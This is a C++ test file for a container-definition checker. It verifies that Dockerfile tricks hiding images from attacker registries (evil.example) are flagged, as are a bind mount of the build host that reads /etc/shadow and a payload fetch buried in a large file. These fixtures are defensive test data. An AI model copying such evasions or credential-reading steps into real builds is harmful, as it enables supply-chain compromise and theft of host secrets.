// Hostile runner definitions, registries and packs through the built binary:
// images a build would pull hidden by Dockerfile syntax, an invalid
// registry, URL spellings browsers follow, what the root hash covers, and
// where `run` looks for runners/.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <set>

#include "core/json.h"
#include "test_util.h"

namespace mplp {
namespace {

namespace fs = std::filesystem;
using test::run_tool_with;
using test::RunOptions;
using test::TempDir;
using Where = std::set<std::pair<std::string, std::string>>;

// (code, "file:line[:column]") of every finding of a JSON report.
Where where(const std::string& json_report) {
  Where out;
  JsonDoc doc;
  EXPECT_TRUE(parse_json(json_report, {}, doc)) << doc.error.message << json_report;
  if (!doc.value.IsObject()) return out;
  for (const auto& p : doc.value["packs"].GetArray())
    for (const auto& g : p["gates"].GetArray())
      for (const auto& f : g["findings"].GetArray()) {
        std::string place = f["file"].GetString();
        if (f.HasMember("line")) place += ":" + std::to_string(f["line"].GetUint64());
        if (f.HasMember("column")) place += ":" + std::to_string(f["column"].GetUint64());
        out.emplace(f["code"].GetString(), place);
      }
  return out;
}

// ---- point 4: every image a build would pull, as the builder reads the file

TEST(BuildImages, DockerfileSyntaxCannotHideAnImage) {
  TempDir t;
  std::string r = t / "repo/runners";
  const std::map<std::string, std::string> files = {
      // A backtick escape: the FROM continues on the next line.
      {"escape/Containerfile", "# escape=`\nFROM `\n  evil.example/base:1\n"},
      {"copy-from/Containerfile", "FROM docker.io/library/node:20\nCOPY --from=ghcr.io/evil/tool:1 /t /t\n"},
      {"mount-from/Containerfile",
       "FROM docker.io/library/node:20\nRUN --mount=type=bind,from=quay.io/evil/m,target=/m true\n"},
      {"syntax/Dockerfile", "# syntax=evil.example/frontend:1\nFROM docker.io/library/node:20\n"},
      {"no-default/Containerfile", "ARG BASE\nFROM ${BASE:-docker.io/library/node}:20\n"},
      {"heredoc/Containerfile", "FROM docker.io/library/node:20\nRUN <<EOF\nFROM evil.example/in-heredoc\nEOF\n"},
      {"split/Containerfile", "FROM \\\n# a comment inside the continuation\n\n  ev\\\nil.example/split:1\n"},
      {"onbuild/Containerfile", "FROM docker.io/library/node:20\nONBUILD COPY --from=evil.example/later /a /b\n"},
      {"upper/Containerfile", "FROM Intranet/base:1\n"},
      {"arg-quoted/Containerfile", "ARG REG=\"evil.example\"\nFROM ${REG}/x\n"},
      {"from-var/Containerfile", "FROM docker.io/library/node:20\nARG X=docker.io/a\nCOPY --from=$X /a /b\n"},
      {"exempt/Containerfile", "FROM quay.io/mirror/x  # @v2-exempt HOST_ALLOW mirrored for the offline build\n"},
      // A build that names only allowed images, in every form.
      {"ok/Containerfile",
       "# syntax=docker/dockerfile:1\nARG NODE=20\nFROM --platform=$BUILDPLATFORM docker.io/library/node:${NODE} AS "
       "Build\nRUN --mount=type=cache,target=/c,from=build true\nFROM scratch\nCOPY --from=build /a /a\nCOPY "
       "--from=0 /b /b\nFROM build\nRUN <<EOF\necho hi\nEOF\nFROM mcr.microsoft.com/dotnet/sdk:8.0@sha256:"
       "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\nFROM localhost/mplp-debian-12:bookworm-2\n"},
  };
  for (const auto& [path, text] : files) test::write_file(r + "/" + path, text);
  auto res =
      run_tool_with({"check", "--runners", r, "--gate", "GATE-V2-HOST-ALLOW-01", "--format", "json"}, RunOptions{});
  ASSERT_EQ(res.exit_code, 1) << res.err << res.out;
  EXPECT_EQ(where(res.out), (Where{
                                {"host.registry-not-allowed", "escape/Containerfile:2"},
                                {"host.registry-not-allowed", "copy-from/Containerfile:2"},
                                {"host.registry-not-allowed", "mount-from/Containerfile:2"},
                                {"host.registry-not-allowed", "syntax/Dockerfile:1"},
                                {"host.registry-unresolved", "no-default/Containerfile:2"},
                                {"host.registry-not-allowed", "heredoc/Containerfile:3"},
                                {"host.registry-not-allowed", "split/Containerfile:1"},
                                {"host.registry-not-allowed", "onbuild/Containerfile:2"},
                                {"host.registry-not-allowed", "upper/Containerfile:1"},
                                {"host.registry-not-allowed", "arg-quoted/Containerfile:2"},
                                {"host.registry-unresolved", "from-var/Containerfile:3"},
                                {"host.exempt", "exempt/Containerfile:1"},
                            }))
      << res.out;
  // Findings say which instruction pulls the image.
  for (const char* shown : {"COPY --from ghcr.io/evil/tool:1", "RUN --mount from quay.io/evil/m",
                            "# syntax evil.example/frontend:1", "ONBUILD COPY --from evil.example/later",
                            "FROM evil.example/split:1", "ARG BASE has no default"})
    EXPECT_NE(res.out.find(shown), std::string::npos) << shown;
}

TEST(BuildImages, AFileTheRegistryNamesAsDockerfileIsRead) {
  TempDir t;
  test::copy_tree(test::fixture("substrate-registry/pass-basic"), t / "repo");
  std::string reg = t / "repo/producers/_registry/substrates.v2.yaml";
  std::string text = test::read_file(reg);
  text.replace(text.find("runners/node-20/Containerfile"), 29, "runners/node-20/build.image");
  test::write_file(reg, text);
  test::write_file(t / "repo/runners/node-20/build.image", "FROM evil.example/odd-name:1\n");
  auto res = run_tool_with(
      {"check", "--runners", t / "repo/runners", "--gate", "GATE-V2-HOST-ALLOW-01", "--format", "json"}, RunOptions{});
  EXPECT_EQ(res.exit_code, 1) << res.err;
  EXPECT_EQ(where(res.out), (Where{{"host.registry-not-allowed", "node-20/build.image:1"}})) << res.out;
}

// A definition that would be refused before any build (a step reaching the
// build host, a directory too large) is refused by a check on a machine
// without an engine too: the smoke gate reads every definition before it
// looks for one (QA-49: such a runner passed, smoke SKIP).
TEST(RunnerDefinitions, RefusalsThatNeedNoBuildNeedNoEngine) {
  TempDir t;
  test::copy_tree(test::fixture("substrate-registry/pass-basic"), t / "repo");
  const std::string cf = t / "repo/runners/node-20/Containerfile";
  test::write_file(cf, "FROM node:20-slim\nRUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow\n");
  // With the engines of this machine, and with none on PATH (the gate
  // would skip): the refusal comes first either way.
  for (const std::string env : {"", "PATH=/nonexistent "}) {
    SCOPED_TRACE(env);
    std::string out;
    ASSERT_EQ(test::run_shell(env + test::shell_quote(test::gate_binary()) + " check --runners " +
                                  test::shell_quote(t / "repo/runners") +
                                  " --runner node-20 --gate GATE-V2-RUNNER-SMOKE-01 --format json 2>/dev/null",
                              out),
              1)
        << out;
    EXPECT_EQ(where(out), (Where{{"smoke.definition_invalid", "node-20/runner.yaml"}})) << out;
    EXPECT_NE(out.find("Containerfile:2: `RUN --mount=type=bind,source=/,target=/host` reaches the build host"),
              std::string::npos)
        << out;
  }
}

// Nothing to smoke-test: an error that says where the list was empty (QA-49:
// an empty registry was "pass the runners/ directory", which was passed).
TEST(RunnerDefinitions, NoRunnerToSmokeTestSaysWhy) {
  TempDir t;
  test::copy_tree(test::fixture("substrate-registry/pass-basic"), t / "repo");
  test::write_file(t / "repo/producers/_registry/substrates.v2.yaml", "version: \"2.0.0\"\nsubstrates: []\nrunners: []\n");
  auto listed = run_tool_with({"check", "--runners", t / "repo/runners", "--gate", "GATE-V2-RUNNER-SMOKE-01"}, RunOptions{});
  EXPECT_EQ(listed.exit_code, 1) << listed.err;
  EXPECT_NE(listed.out.find("the substrate registry lists no runner: nothing to smoke-test [smoke.no_runners]"),
            std::string::npos)
      << listed.out;
  EXPECT_EQ(listed.out.find("Pass the repository's runners/"), std::string::npos) << listed.out;
  fs::create_directories(t / "bare/runners");
  auto bare = run_tool_with({"check", "--runners", t / "bare/runners", "--gate", "GATE-V2-RUNNER-SMOKE-01"}, RunOptions{});
  EXPECT_EQ(bare.exit_code, 1) << bare.err;
  EXPECT_NE(bare.out.find("no runner to smoke-test in " + (t / "bare/runners")), std::string::npos) << bare.out;
}

// The registry's dockerfile, there but unreadable: one finding saying so,
// not "does not exist" and a base_image mismatch besides (QA-49). Run as
// nobody when the test runs as root, who reads every file.
TEST(RunnerDefinitions, AnUnreadableDefinitionIsOneFinding) {
  TempDir t;
  test::copy_tree(test::fixture("substrate-registry/pass-basic"), t / "repo");
  fs::create_directories(t / "bin");
  fs::copy_file(test::gate_binary(), t / "bin/mplp-gate");
  std::string out;
  ASSERT_EQ(test::run_shell("chmod -R a+rX " + test::shell_quote(t.path()) + " && chmod 000 " +
                                test::shell_quote(t / "repo/runners/node-20/Containerfile"),
                            out),
            0)
      << out;
  const std::string as = ::geteuid() == 0 ? "setpriv --reuid=65534 --regid=65534 --clear-groups " : "";
  // From the temporary directory: the other user may not search the test's
  // working directory (a clone under a 0700 directory), where the policy
  // would be looked for.
  ASSERT_EQ(test::run_shell("cd " + test::shell_quote(t.path()) + " && " + as + test::shell_quote(t / "bin/mplp-gate") + " check --runners " +
                                test::shell_quote(t / "repo/runners") +
                                " --gate GATE-V2-SUBSTRATE-REGISTRY-01 --format json 2>/dev/null",
                            out),
            1)
      << out;
  Where found = where(out);
  ASSERT_EQ(found.size(), 1u) << out;
  EXPECT_EQ(found.begin()->first, "registry.dockerfile_missing") << out;
  EXPECT_NE(out.find("cannot be read"), std::string::npos) << out;
  EXPECT_NE(out.find("Permission denied"), std::string::npos) << out;
  EXPECT_EQ(out.find("does not exist"), std::string::npos) << out;
}

// A large file of a runner directory is scanned in windows, as a pack's
// is, never held (QA-49: a 1.5 GB file took 1.5 GB); a build definition too
// large to parse is an error, never a pass.
TEST(RunnerDefinitions, LargeFilesAreScannedWithoutBeingHeld) {
  TempDir t;
  test::copy_tree(test::fixture("substrate-registry/pass-basic"), t / "repo");
  const std::string big = t / "repo/runners/node-20/data.bin";
  { std::ofstream f(big); }
  fs::resize_file(big, 200u << 20);  // sparse zeros
  { std::ofstream(big, std::ios::app) << "\nfetch https://evil.example/payload\n"; }
  auto res = run_tool_with({"check", "--runners", t / "repo/runners", "--gate", "GATE-V2-HOST-ALLOW-01", "--format", "json"},
                           RunOptions{});
  EXPECT_EQ(res.exit_code, 1) << res.err;
  EXPECT_EQ(where(res.out), (Where{{"host.not-allowed", "node-20/data.bin:2:7"}})) << res.out;
  // AddressSanitizer's shadow memory and quarantine take about 160 MiB of
  // their own; the file held whole would add its 200 MiB to either.
  EXPECT_LT(res.max_rss_kib, (test::built_with_asan() ? 300 : 96) * 1024) << "the file was held whole";
  fs::remove(big);
  const std::string cf = t / "repo/runners/node-20/Containerfile";
  { std::ofstream(cf, std::ios::app) << std::string(17u << 20, '#') << "\nFROM evil.example/late:1\n"; }
  auto large = run_tool_with(
      {"check", "--runners", t / "repo/runners", "--gate", "GATE-V2-HOST-ALLOW-01", "--format", "json"}, RunOptions{});
  EXPECT_EQ(large.exit_code, 1) << large.err;
  EXPECT_EQ(where(large.out), (Where{{"host.unscanned", "node-20/Containerfile"}})) << large.out;
  EXPECT_NE(large.out.find("not read for the images it pulls"), std::string::npos) << large.out;
}

// An image named through a transport is read from the build host, not
// pulled: never judged as a registry's image (QA-49: containers-storage:x
// passed as docker.io, oci-archive:/x was "host oci-archive").
TEST(BuildImages, AnImageNamedThroughATransportIsNoRegistrysImage) {
  TempDir t;
  test::copy_tree(test::fixture("substrate-registry/pass-basic"), t / "repo");
  test::write_file(t / "repo/runners/node-20/Containerfile",
                   "FROM node:20-slim\nCOPY --from=containers-storage:secret /k /k\nCOPY --from=oci-archive:/x.tar /a /a\n"
                   "COPY --from=docker:24 /b /b\n");
  auto res = run_tool_with(
      {"check", "--runners", t / "repo/runners", "--gate", "GATE-V2-HOST-ALLOW-01", "--format", "json"}, RunOptions{});
  EXPECT_EQ(res.exit_code, 1) << res.err;
  EXPECT_EQ(where(res.out), (Where{{"host.registry-unresolved", "node-20/Containerfile:2"},
                                   {"host.registry-unresolved", "node-20/Containerfile:3"}}))
      << res.out;
  EXPECT_NE(res.out.find("COPY --from containers-storage:secret: the image is named through a transport"),
            std::string::npos)
      << res.out;
  EXPECT_EQ(res.out.find("host oci-archive"), std::string::npos) << res.out;
}

// ---- point 11: a registry that fails its schema is not used

TEST(RegistryInPackMode, SchemaViolationsExitTwoNamingFileAndPlace) {
  TempDir t;
  std::string pack = test::copy_good_pack(t);
  struct Case {
    std::string yaml, err_has;
  };
  const std::vector<Case> cases = {
      {"just a string\n", "reg.yaml:1: invalid substrate registry: at the top level"},
      {"version: \"2.0.0\"\nsubstrates: []\n", "reg.yaml:1: invalid substrate registry: at the top level"},
      {"version: \"2.0.0\"\nsubstrates: []\nrunners:\n  - base_image: x\n", "reg.yaml:4: invalid substrate registry: "
                                                                           "at /runners/0"},
      {"version: \"2.0.0\"\nsubstrates: []\nrunners:\n  - runner_id: \"Bad Id\"\n",
       "reg.yaml:4: invalid substrate registry: at /runners/0/runner_id"},
      {"version: 2\nsubstrates: {}\nrunners: []\n", "more schema error"},
  };
  for (const Case& c : cases) {
    test::write_file(t / "reg.yaml", c.yaml);
    auto r = run_tool_with({"check", "--registry", t / "reg.yaml", pack}, RunOptions{});
    EXPECT_EQ(r.exit_code, 2) << c.yaml << r.out;
    EXPECT_NE(r.err.find(c.err_has), std::string::npos) << c.yaml << "\nstderr: " << r.err;
    EXPECT_TRUE(r.out.empty()) << r.out;
  }
  // Found under --repo-root, the same.
  test::write_file(t / "repo/producers/_registry/substrates.v2.yaml", "- not\n- a mapping\n");
  auto r = run_tool_with({"check", "--repo-root", t / "repo", pack}, RunOptions{});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find("substrates.v2.yaml:1: invalid substrate registry"), std::string::npos) << r.err;
  // A valid registry is used.
  test::write_file(t / "reg.yaml", test::registry_yaml({{"mcp", "node-20"}}, {"node-20"}));
  EXPECT_EQ(run_tool_with({"check", "--registry", t / "reg.yaml", pack}, RunOptions{}).exit_code, 0);
}

// ---- point 16: URL spellings browsers follow

TEST(UrlSpellings, BrowserSpellingsAndEverySchemeAreHosts) {
  TempDir t;
  std::string pack = t / "p";
  test::write_file(pack + "/manifest.json", "{\"pack_layout_version\": \"2\"}\n");
  test::write_file(pack + "/artifacts/links.md",
                   "https:/evil.example/a\n"
                   "https:\\\\10.0.0.1\\b\n"
                   "see https:\\/\\/evil.example/c\n"
                   "sftp://10.0.0.2/x ldap://evil.example s3://bucket/k\n"
                   "file:///etc/hosts file://localhost/x file://share.example/y\n"
                   "https://github.com/ok git+ssh://git@github.com/ok mplp://artifacts/plan.json\n");
  auto r = run_tool_with({"check", "--gate", "GATE-V2-HOST-ALLOW-01", "--format", "json", pack}, RunOptions{});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  EXPECT_EQ(where(r.out), (Where{
                              {"host.not-allowed", "artifacts/links.md:1:1"},
                              {"host.forbidden", "artifacts/links.md:2:1"},
                              {"host.not-allowed", "artifacts/links.md:3:5"},
                              {"host.forbidden", "artifacts/links.md:4:1"},
                              {"host.not-allowed", "artifacts/links.md:4:19"},
                              {"host.not-allowed", "artifacts/links.md:4:39"},
                              {"host.not-allowed", "artifacts/links.md:5:38"},
                          }))
      << r.out;
}

// ---- point 17: what pack_root_hash covers

TEST(RootHashDocs, ExplainSaysWhatTheRootHashCovers) {
  auto r = run_tool_with({"explain", "GATE-V2-INTEGRITY-01"}, RunOptions{});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out.find("pins the sums"), std::string::npos) << r.out;
  for (const char* f : {"artifacts/context.json", "timeline/events.ndjson", "five files only",
                        "manifest, reports and any other file can be rewritten"})
    EXPECT_NE(r.out.find(f), std::string::npos) << f;
  // The finding that records a match says so too.
  auto c = run_tool_with({"check", "--gate", "GATE-V2-INTEGRITY-01", test::fixture("packs/good-real")}, RunOptions{});
  EXPECT_EQ(c.exit_code, 0);
  EXPECT_NE(c.out.find("which covers the five v2 files only"), std::string::npos) << c.out;
}

// ---- point 18: `run` finds runners/ up to the repository root

RunOptions in_dir(const std::string& cwd) {
  RunOptions o;
  o.cwd = cwd;
  return o;
}

bool inside_a_repository(fs::path p) {
  for (; !p.empty(); p = p.parent_path()) {
    if (fs::exists(fs::symlink_status(p / ".git"))) return true;
    if (p == p.root_path()) break;
  }
  return false;
}

TEST(RunnersSearch, AncestorsUpToTheRepositoryRootNeverAbove) {
  TempDir t;
  if (inside_a_repository(t.path()))
    GTEST_SKIP() << "the temporary directory " << t.path() << " is inside a git repository";
  const std::vector<std::string> run = {"run", "--runner", "nope", "--cmd", "true", "--out-dir", "out"};
  const std::string not_found = "no runners/ directory";
  // A repository whose runners/ is two levels up: found (the runner is not).
  fs::create_directories(t / "repo/.git");
  fs::create_directories(t / "repo/runners");
  fs::create_directories(t / "repo/a/b");
  auto r = run_tool_with(run, in_dir(t / "repo/a/b"));
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find("definition: no runner directory " + (t / "repo/runners/nope")), std::string::npos) << r.err;
  // A worktree's .git is a file.
  fs::create_directories(t / "wt/x/y");
  fs::create_directories(t / "wt/runners");
  test::write_file(t / "wt/.git", "gitdir: /elsewhere\n");
  r = run_tool_with(run, in_dir(t / "wt/x/y"));
  EXPECT_NE(r.err.find(t / "wt/runners/nope"), std::string::npos) << r.err;
  // Never above the repository root: runners/ beside the repository is not its own.
  fs::create_directories(t / "outer/runners");
  fs::create_directories(t / "outer/repo/.git");
  fs::create_directories(t / "outer/repo/sub");
  r = run_tool_with(run, in_dir(t / "outer/repo/sub"));
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find(not_found), std::string::npos) << r.err;
  // Outside any repository, only the working directory.
  fs::create_directories(t / "loose/runners");
  fs::create_directories(t / "loose/sub");
  EXPECT_NE(run_tool_with(run, in_dir(t / "loose/sub")).err.find(not_found), std::string::npos);
  EXPECT_NE(run_tool_with(run, in_dir(t / "loose")).err.find(t / "loose/runners/nope"), std::string::npos);
}

}  // namespace
}  // namespace mplp
